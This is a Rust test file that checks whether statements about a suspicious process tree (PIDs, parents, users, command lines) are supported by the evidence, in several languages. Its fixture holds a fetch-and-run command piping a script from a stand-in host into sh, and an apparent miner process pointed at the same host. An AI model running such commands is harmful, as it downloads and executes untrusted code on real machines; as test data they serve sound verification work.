//! Process trees: what is said of a process is its own, and who started whom is read off the ids of
//! parents and the places in the tree. The true texts and the false ones differ in one value.

use serde_json::Value;
use serde_json::json;

use crate::domain::grounding::claim::Claim;
use crate::domain::grounding::claim::Verdict;
use crate::domain::grounding::facts::Evidence;
use crate::domain::grounding::input::EvidenceResult;
use crate::domain::grounding::render::render_results;
use crate::domain::grounding::tests::about;
use crate::domain::grounding::tests::honest;
use crate::domain::grounding::tests::result;
use crate::domain::grounding::tests::run;
use crate::domain::lang::Lang;
use crate::domain::outcome::Outcome;

/// That none of these sentences passes; which code says so is not the point.
fn stopped(results: &[EvidenceResult], lang: Lang, texts: &[&str]) {
    let passes: Vec<&&str> = texts
        .iter()
        .filter(|text| {
            let report = run(&about(results, lang), text);
            let held = |claim: &Claim| claim.verdict != Verdict::Supported;
            report.violations().is_empty() && !report.claims().iter().any(held)
        })
        .collect();
    assert!(passes.is_empty(), "pass: {passes:#?}");
}

/// That each of these is stopped by a verdict of code.
fn refuted(results: &[EvidenceResult], lang: Lang, texts: &[&str]) {
    let passes: Vec<&&str> =
        texts.iter().filter(|text| run(&about(results, lang), text).violations().is_empty()).collect();
    assert!(passes.is_empty(), "pass: {passes:#?}");
}

fn process(pid: u32, name: &str, command: &str, user: &str) -> Value {
    json!({"pid": pid, "name": name, "exePath": format!("/usr/bin/{name}"), "cmdline": command, "user": user,
        "startTime": 1_770_624_000_000_000_000_u64 + u64::from(pid) * 1_000_000_000})
}

fn with(mut process: Value, key: &str, value: Value) -> Value {
    process[key] = value;
    process
}

const DOWNLOAD: &str = "bash -c curl -fsSL http://pool.example.net/k.sh | sh";

fn chain() -> [Value; 4] {
    [
        process(1, "systemd", "/usr/lib/systemd/systemd --system", "root"),
        process(2101, "containerd-shim", "containerd-shim -namespace k8s.io -id 01f6", "root"),
        process(48_190, "bash", DOWNLOAD, "www-data"),
        process(48_213, "kworkerd", "kworkerd -o pool.example.net:3333", "nobody"),
    ]
}

/// The branch and the tree of an event, with a process beside the chain.
fn lineage() -> [EvidenceResult; 1] {
    let [systemd, shim, bash, worker] = chain();
    let branch = json!([
        with(systemd.clone(), "ppid", json!(0)),
        with(shim.clone(), "ppid", json!(1)),
        with(bash.clone(), "ppid", json!(2101)),
        with(worker.clone(), "ppid", json!(48_190))
    ]);
    let noticed = with(with(worker, "matched", json!(true)), "children", json!([]));
    let bash = with(bash, "children", json!([noticed]));
    let node = with(process(2150, "node", "node server.js", "app"), "children", json!([]));
    let shim = with(shim, "children", json!([node, bash]));
    let root = with(systemd, "children", json!([shim]));
    told(json!({"branches": {"data": [{"eventId": "18928335d186224bb5ad2497ac1d6359", "branch": branch}]},
        "tree": {"data": {"root": root}}}))
}

fn told(content: Value) -> [EvidenceResult; 1] {
    let arguments = json!({"event_id": "18928335d186224bb5ad2497ac1d6359"});
    [result("t1", "get_event_process_tree", arguments, Outcome::Ok, content)]
}

/// A tree alone, without any id of a parent, in which two processes are called alike.
fn tree_alone() -> [EvidenceResult; 1] {
    let leaf = |pid: u32, name: &str, user: &str| with(process(pid, name, name, user), "children", json!([]));
    let nginx =
        with(process(900, "nginx", "nginx -g daemon", "www-data"), "children", json!([leaf(911, "sh", "www-data")]));
    let bash = with(process(77_120, "bash", "-bash", "ola"), "children", json!([leaf(77_200, "sh", "ola")]));
    let sshd = with(process(612, "sshd", "/usr/sbin/sshd -D", "root"), "children", json!([bash]));
    let root = with(process(1, "systemd", "systemd --system", "root"), "children", json!([sshd, nginx]));
    told(json!({"branches": {}, "tree": {"data": root}}))
}

#[test]
fn a_tree_is_read_as_the_list_of_its_nodes() {
    let results = lineage();
    let evidence = Evidence::new(&results);
    let nodes = evidence.lists.iter().find(|list| list.rows.len() == 5).unwrap();
    for row in &nodes.rows {
        let pids: Vec<_> = evidence.of_row(*row).iter().filter(|fact| fact.key == "pid").collect();
        assert_eq!(pids.len(), 1);
        assert_eq!(evidence.of_row(*row).iter().filter(|fact| fact.row != *row).count(), 0);
    }
    for (id, fact) in (0..).zip(&evidence.facts) {
        if let Some(place) = evidence.reference(id) {
            assert_eq!(results[0].content.pointer(&place.pointer), Some(fact.value), "{}", place.pointer);
        }
    }
    let text = render_results(&results, Lang::En);
    honest(&about(&results, Lang::En), &[&text]);
    for part in ["kworkerd", "containerd-shim", "node server.js"] {
        assert!(text.contains(part), "{part}: {text}");
    }
}

#[test]
fn an_id_is_of_the_process_it_stands_with() {
    honest(
        &about(&lineage(), Lang::En),
        &[
            "kworkerd: pid 48213",
            "Process kworkerd (48213) was noticed.",
            "The noticed process is kworkerd (PID 48213), user nobody.",
            "kworkerd has PID 48213.",
            "kworkerd runs as nobody with PID 48213.",
            "The PID of kworkerd is 48213.",
            "- Process 48213 (kworkerd): parent 48190, user nobody, command `kworkerd -o pool.example.net:3333`",
            "- Process 1 (systemd): parent 0, user root",
            "- Process 2150 (node): user app, command `node server.js`",
            "The tree has bash (48190), kworkerd (48213) and node (2150).",
            "| PID | Name | User |\n| --- | --- | --- |\n| 48213 | kworkerd | nobody |\n| 48190 | bash | www-data |",
            "| Name | PID | Parent |\n| --- | --- | --- |\n| kworkerd | 48213 | 48190 |\n| containerd-shim | 2101 | 1 |",
            "**kworkerd**\n\n- PID: 48213\n- Parent: 48190\n- User: nobody",
            "| Name | PID | PPID | Parent PID |\n| --- | --- | --- | --- |\n| kworkerd | 48213 | 48190 | 48190 |",
            "- 48213 kworkerd\n- 1 (systemd)\n- 2101: containerd-shim",
            "kworkerd: PPID 48190, PID 48213",
            "containerd-shim (root, PID 2101) started bash.",
            "There are 5 processes in the tree.",
        ],
    );
    refuted(
        &lineage(),
        Lang::En,
        &[
            "kworkerd: pid 48190",
            "Process kworkerd (48190) was noticed.",
            "kworkerd has PID 2101.",
            "The PID of kworkerd is 2101.",
            "- Process 48190 (kworkerd): user nobody",
            "- Process 48213 (kworkerd): parent 2101, user nobody",
            "- Process 1 (systemd): parent 2101, user root",
            "- Process 2101 (node): user app",
            "The tree has bash (48213), kworkerd (48190) and node (2150).",
            "| Name | PID | Parent |\n| --- | --- | --- |\n| kworkerd | 48213 | 2101 |",
            "| Name | PID | Parent |\n| --- | --- | --- |\n| kworkerd | 48190 | 48190 |",
            "**kworkerd**\n\n- PID: 48190\n- Parent: 48190",
            "kworkerd runs as nobody with PID 48190.",
            "| Name | PPID |\n| --- | --- |\n| kworkerd | 2101 |",
            "- 48190 kworkerd",
            "- 2101: bash",
            "kworkerd: PPID 48190, PID 2101",
            "containerd-shim (root, PID 48190) was noticed.",
            "**kworkerd**\n\n- PID: 48213\n- Parent: 2101",
        ],
    );
    honest(&about(&lineage(), Lang::Nb), &["- Prosess 48213 (kworkerd): bruker nobody", "kworkerd har PID 48213."]);
    refuted(&lineage(), Lang::Nb, &["- Prosess 48190 (kworkerd): bruker nobody", "kworkerd har PID 48190."]);
    honest(&about(&lineage(), Lang::Es), &["El proceso kworkerd (PID 48213) fue detectado."]);
    refuted(&lineage(), Lang::Es, &["El proceso kworkerd (PID 2101) fue detectado."]);
}

#[test]
fn a_parent_is_that_of_the_process_it_is_told_of() {
    honest(
        &about(&lineage(), Lang::En),
        &[
            "kworkerd has parent 48190.",
            "Process kworkerd (48213) has parent process bash (48190).",
            "kworkerd was started by bash.",
            "kworkerd was spawned by bash (48190), whose parent is containerd-shim.",
            "bash started kworkerd.",
            "The parent of kworkerd is bash.",
            "kworkerd's parent is bash.",
            "bash is the parent of kworkerd.",
            "bash is a child of containerd-shim.",
            "kworkerd runs under containerd-shim.",
            "bash was started by containerd-shim and has PID 48190.",
            "kworkerd runs as nobody. Its parent is bash (48190).",
            "kworkerd was not started by systemd.",
            "Process 2101 started bash.",
            "Who started bash?",
            "bash is kworkerd's parent.",
            "bash was started at once and kworkerd followed.",
            "kworkerd started some time after bash.",
            "kworkerd's parent process, bash (48190), was started by containerd-shim.",
            "kworkerd runs as nobody, while its parent bash runs as www-data.",
            "systemd (1) spawned containerd-shim (2101), which spawned bash (48190), which in turn spawned kworkerd (48213).",
            "bash was not started by kworkerd but by containerd-shim.",
            "Parent: bash (48190), child: kworkerd (48213)",
        ],
    );
    refuted(
        &lineage(),
        Lang::En,
        &[
            "kworkerd has parent 2101.",
            "Process kworkerd (48213) has parent process containerd-shim (2101).",
            "kworkerd was started by systemd.",
            "kworkerd was spawned by bash (48190), whose parent is systemd.",
            "kworkerd started bash.",
            "The parent of kworkerd is containerd-shim.",
            "kworkerd's parent is containerd-shim.",
            "kworkerd is the parent of bash.",
            "bash is a child of systemd.",
            "containerd-shim runs under kworkerd.",
            "systemd was started by containerd-shim and has PID 1.",
            "kworkerd runs as nobody. Its parent is containerd-shim (2101).",
            "kworkerd was not started by bash.",
            "Process 48213 started bash.",
            "kworkerd is bash's parent.",
            "kworkerd's parent process, bash (48190), was started by systemd.",
            "systemd (1) spawned bash (48190), which spawned containerd-shim (2101).",
            "Parent: kworkerd (48213), child: bash (48190)",
        ],
    );
}

#[test]
fn kinship_is_understood_in_other_languages() {
    for (language, right, wrong) in [
        (Lang::Nb, "kworkerd ble startet av bash.", "kworkerd ble startet av systemd."),
        (Lang::Nb, "bash startet kworkerd.", "kworkerd startet bash."),
        (Lang::De, "kworkerd wurde von bash gestartet.", "kworkerd wurde von systemd gestartet."),
        (Lang::De, "bash hat kworkerd gestartet.", "systemd hat kworkerd gestartet."),
        (Lang::De, "Der Elternprozess von kworkerd ist bash.", "Der Elternprozess von kworkerd ist systemd."),
        (Lang::Fr, "kworkerd a été lancé par bash.", "kworkerd a été lancé par systemd."),
        (Lang::Fr, "Le processus parent de kworkerd est bash.", "Le processus parent de kworkerd est systemd."),
        (Lang::Es, "bash inició kworkerd.", "kworkerd inició bash."),
        (Lang::Es, "El proceso padre de kworkerd es bash.", "El proceso padre de kworkerd es systemd."),
        (Lang::Ja, "kworkerd は bash によって起動されました。", "kworkerd は systemd によって起動されました。"),
        (Lang::Ja, "kworkerd の親プロセスは bash です。", "kworkerd の親プロセスは containerd-shim です。"),
        (Lang::Sv, "kworkerd startades av bash.", "kworkerd startades av systemd."),
        (Lang::Da, "bash er forældreproces til kworkerd.", "kworkerd er forældreproces til bash."),
    ] {
        honest(&about(&lineage(), language), &[right]);
        refuted(&lineage(), language, &[wrong]);
    }
}

#[test]
fn a_tree_without_ids_of_parents_tells_them_by_its_places() {
    honest(
        &about(&tree_alone(), Lang::En),
        &[
            "bash was started by sshd.",
            "sshd (612) is the parent of bash (77120).",
            "sh (911) was started by nginx, sh (77200) by bash.",
            "sh runs under sshd.",
            "- systemd\n  - sshd\n    - bash\n      - sh\n  - nginx\n    - sh",
            "```\nsystemd (1)\n├── sshd (612)\n│   └── bash (77120)\n│       └── sh (77200)\n└── nginx (900)\n    └── sh (911)\n```",
            "bash runs as ola.",
        ],
    );
    refuted(
        &tree_alone(),
        Lang::En,
        &[
            "bash was started by nginx.",
            "nginx (900) is the parent of bash (77120).",
            "sh (77200) was started by nginx.",
            "bash runs under nginx.",
            "systemd was started by sshd.",
            "- systemd\n  - nginx\n    - bash\n      - sh\n  - sshd\n    - sh",
            "```\nsystemd (1)\n├── nginx (900)\n│   └── bash (77120)\n└── sshd (612)\n```",
            "bash runs as root.",
        ],
    );
}

#[test]
fn a_chain_keeps_its_order() {
    honest(
        &about(&lineage(), Lang::En),
        &[
            "systemd → containerd-shim → bash → kworkerd",
            "The chain is systemd (1) → containerd-shim (2101) → bash (48190) → kworkerd (48213).",
            "`systemd` -> `bash` -> `kworkerd`",
            "kworkerd ← bash ← containerd-shim",
            "The parents of it are kworkerd → bash → containerd-shim → systemd.",
        ],
    );
    refuted(
        &lineage(),
        Lang::En,
        &[
            "systemd → bash → containerd-shim → kworkerd",
            "The chain is systemd (1) → containerd-shim (2101) → kworkerd (48213) → bash (48190).",
            "`systemd` -> `kworkerd` -> `bash`",
            "kworkerd ← containerd-shim ← bash",
            "node → kworkerd",
        ],
    );
    // Which way a chain leads that leads up throughout, only a reader can tell.
    stopped(&lineage(), Lang::En, &["kworkerd → bash → containerd-shim → systemd"]);
    honest(&about(&lineage(), Lang::De), &["Die Kette ist systemd → containerd-shim → bash → kworkerd."]);
    refuted(&lineage(), Lang::De, &["Die Kette ist systemd → bash → containerd-shim → kworkerd."]);
}

#[test]
fn a_user_and_a_command_line_are_of_their_process() {
    honest(
        &about(&lineage(), Lang::En),
        &[
            "Process kworkerd runs as nobody.",
            "bash (user www-data) was started by containerd-shim (user root).",
            "bash started kworkerd as nobody.",
            "systemd and containerd-shim run as root.",
            "systemd runs as root and kworkerd runs as nobody.",
            "kworkerd was started by bash and runs as nobody.",
            "bash, whose parent is containerd-shim, runs as www-data.",
            "The command line of kworkerd is `kworkerd -o pool.example.net:3333`.",
            "kworkerd does not run as root.",
            "systemd is the root process of the tree; bash was started below it.",
            "The root cause is kworkerd.",
            "Process 48190 runs as www-data.",
            "kworkerd runs as nobody. Its parent runs as www-data.",
            "kworkerd runs as nobody. It was started by bash.",
            "bash runs as www-data. The processes above it run as root.",
            "kworkerd, running as nobody, was started by bash, running as www-data.",
            "- kworkerd\n  - user: nobody\n- bash\n  - user: www-data",
            "systemd (root) → containerd-shim (root) → bash (www-data) → kworkerd (nobody)",
        ],
    );
    honest(&about(&lineage(), Lang::En), &[&format!("bash ran `{DOWNLOAD}`.")]);
    refuted(
        &lineage(),
        Lang::En,
        &[
            "Process kworkerd runs as root.",
            "Process kworkerd runs as www-data.",
            "bash (user root) was started by containerd-shim (user root).",
            "bash started kworkerd as root.",
            "systemd and kworkerd run as root.",
            "systemd runs as nobody and kworkerd runs as root.",
            "The command line of bash is `kworkerd -o pool.example.net:3333`.",
            "kworkerd does not run as nobody.",
            "- Process 48213 (kworkerd): parent 48190, user www-data",
            "Process 48190 runs as nobody.",
            "kworkerd was noticed. It runs as root.",
            "kworkerd was noticed. Its parent runs as nobody.",
            "- kworkerd\n  - user: root\n- bash\n  - user: www-data",
            "systemd (root) → containerd-shim (root) → bash (nobody) → kworkerd (www-data)",
            "| Name | User |\n| --- | --- |\n| kworkerd | root |",
        ],
    );
    refuted(&lineage(), Lang::En, &[&format!("kworkerd ran `{DOWNLOAD}`.")]);
    honest(&about(&lineage(), Lang::Nb), &["kworkerd kjører som nobody.", "systemd kjører som root."]);
    refuted(&lineage(), Lang::Nb, &["kworkerd kjører som root.", "kworkerd kjører som www-data."]);
    honest(&about(&lineage(), Lang::De), &["kworkerd läuft als nobody."]);
    refuted(&lineage(), Lang::De, &["kworkerd läuft als root."]);
}

#[test]
fn a_large_tree_is_read_once() {
    let leaf = |at: u32| with(process(10_000 + at, "sh", &format!("sh {at}"), "app"), "children", json!([]));
    let children: Vec<Value> = (0..2_000).map(leaf).collect();
    let mut root = with(process(900, "nginx", "nginx", "root"), "children", Value::Array(children));
    for at in 0..40 {
        root = with(process(100 + at, "bash", "bash", "root"), "children", json!([root]));
    }
    let results = told(json!({"branches": {}, "tree": {"data": {"root": root}}}));
    let told = |shift: u32| {
        let lines = (0..60).map(|at| format!("- sh ({}): command `sh {}`", 10_000 + at * 30, at * 30 + shift));
        lines.collect::<Vec<_>>().join("\n")
    };
    honest(&about(&results, Lang::En), &[&told(0), "sh was started by nginx."]);
    refuted(&results, Lang::En, &[&told(1), "nginx was started by sh."]);
}
